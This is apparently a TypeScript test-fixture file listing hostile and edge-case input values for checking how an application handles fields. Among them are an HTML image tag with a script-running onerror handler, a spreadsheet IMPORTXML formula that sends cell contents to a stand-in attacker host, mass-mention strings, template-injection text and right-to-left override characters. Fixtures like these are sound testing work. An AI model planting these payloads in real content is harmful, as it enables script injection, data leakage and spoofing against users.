/** What a value can be, besides what one expects. `MISSING` removes the field. */
export const MISSING = Symbol('missing');

/** HTML that would show an image, and run a script. */
export const TAG = '<img src=x onerror="alert(1)">';

export const HOSTILE: Record<string, unknown> = {
	missing: MISSING,
	null: null,
	empty: '',
	'a number for text': 12345,
	'a huge number': 1e308,
	HTML: `Ann ${TAG} & Co`,
	'a formula': '=IMPORTXML("https://evil.example.com/?q="&A1, "//a")',
	mentions: '@everyone <!channel> <@&123> <@U1>',
	quotes: `"Ann" 'O\`Neil' \\ \${1} \r\n $& {{ 7 * 6 }}`,
	'right-to-left marks': 'Ann \u202eneB\u202c \u2066\u200f Bell\u2069',
	'10,000 characters': 'x'.repeat(10_000),
};
